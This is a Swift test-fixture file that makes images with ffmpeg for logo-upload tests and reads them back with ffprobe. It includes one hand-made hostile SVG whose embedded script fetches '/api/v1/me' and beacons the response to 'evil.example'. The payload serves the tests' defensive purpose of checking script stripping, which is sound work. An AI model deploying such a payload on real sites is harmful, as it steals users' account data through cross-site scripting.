import Foundation

/// Still images for the logo tests, made by the ffmpeg command-line tool (the independent
/// author of fixtures), and hostile ones made by hand.
public enum StillImages {
    /// A PNG of `width`×`height`, red at half opacity (so transparency shows whether it survives).
    public static func png(width: Int, height: Int) throws -> Data {
        try make("color=c=red@0.5:s=\(width)x\(height),format=rgba", fileExtension: "png")
    }

    /// A JPEG of `width`×`height`: ffmpeg's test pattern.
    public static func jpeg(width: Int, height: Int) throws -> Data {
        try make("testsrc2=size=\(width)x\(height)", fileExtension: "jpg")
    }

    /// An SVG that runs a script when a browser opens it on our origin.
    public static let svgWithScript = Data("""
        <svg xmlns="http://www.w3.org/2000/svg" width="100" height="40">\
        <script>fetch('/api/v1/me').then(r => r.text()).then(t => navigator.sendBeacon('https://evil.example', t))</script>\
        <rect width="100" height="40" fill="red"/></svg>
        """.utf8)

    /// The width, height and pixel format ffprobe reads in the image `data`.
    public static func probe(_ data: Data) throws -> (width: Int, height: Int, pixelFormat: String) {
        let directory = try TemporaryDirectory()
        let path = directory.path("probed")
        try data.write(to: URL(fileURLWithPath: path))
        let output = try FFprobe.run(["-v", "error", "-select_streams", "v:0", "-show_entries", "stream=width,height,pix_fmt",
                                      "-of", "csv=p=0", path])
        let fields = String(decoding: output, as: UTF8.self).trimmingCharacters(in: .whitespacesAndNewlines).split(separator: ",")
        guard fields.count == 3, let width = Int(fields[0]), let height = Int(fields[1]) else {
            throw FFprobe.Failure(description: "ffprobe read no picture size: \(fields)")
        }
        return (width, height, String(fields[2]))
    }

    /// The RGBA pixels ffmpeg decodes from the image `data`, row after row.
    public static func rgba(_ data: Data) throws -> [UInt8] {
        let directory = try TemporaryDirectory()
        let path = directory.path("decoded")
        try data.write(to: URL(fileURLWithPath: path))
        return Array(try Subprocess.run("ffmpeg", ["-v", "error", "-i", path, "-f", "rawvideo", "-pix_fmt", "rgba", "-"])
            .standardOutput)
    }

    private static func make(_ source: String, fileExtension: String) throws -> Data {
        let directory = try TemporaryDirectory()
        let path = directory.path("image.\(fileExtension)")
        try Subprocess.run("ffmpeg", ["-v", "error", "-f", "lavfi", "-i", source, "-frames:v", "1", "-y", path])
        return try Data(contentsOf: URL(fileURLWithPath: path))
    }
}
